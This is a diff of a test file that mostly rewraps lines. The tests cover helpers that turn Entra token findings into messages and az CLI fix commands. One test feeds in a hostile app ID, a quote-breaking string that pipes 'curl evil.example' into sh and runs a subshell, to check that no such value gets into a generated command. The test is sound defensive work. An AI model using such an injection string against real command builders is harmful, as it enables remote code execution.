@@ -62,7 +62,9 @@ describe('sayFinding', () => {
   })
 
   it('keeps a sentence short when a value is huge', () => {
-    const { message } = sayFinding(raise('M2M503', { audience: 'x'.repeat(100_000), guidOfUri: false }))
+    const { message } = sayFinding(
+      raise('M2M503', { audience: 'x'.repeat(100_000), guidOfUri: false }),
+    )
 
     expect(message.length).toBeLessThan(400)
   })
@@ -72,7 +74,9 @@ describe('fixFor', () => {
   it('lets Entra write v2 tokens when the token is v1', () => {
     const fix = fixFor('M2M501', entra, { args: samples.M2M501 })
 
-    expect(fix.summary).toBe('Let Entra write v2 tokens for this API: requestedAccessTokenVersion = 2.')
+    expect(fix.summary).toBe(
+      'Let Entra write v2 tokens for this API: requestedAccessTokenVersion = 2.',
+    )
     expect(fix.commands).toEqual([
       {
         command: `az rest --method GET --uri "https://graph.microsoft.com/v1.0/applications(appId='${app}')" --uri-parameters '$select=appId,api'`,
@@ -122,7 +126,9 @@ describe('fixFor', () => {
 
   it('puts no value into a command or a conf line that has not its own form', () => {
     const hostile = "x'; curl evil.example | sh #`$(id)"
-    const fix = fixFor('M2M501', placeholderValues, { args: { ...samples.M2M501, apiAppId: hostile } })
+    const fix = fixFor('M2M501', placeholderValues, {
+      args: { ...samples.M2M501, apiAppId: hostile },
+    })
 
     expect(JSON.stringify(fix)).not.toContain('evil')
     expect(fix.commands[0]?.command).toContain("appId='<api-app-id>'")
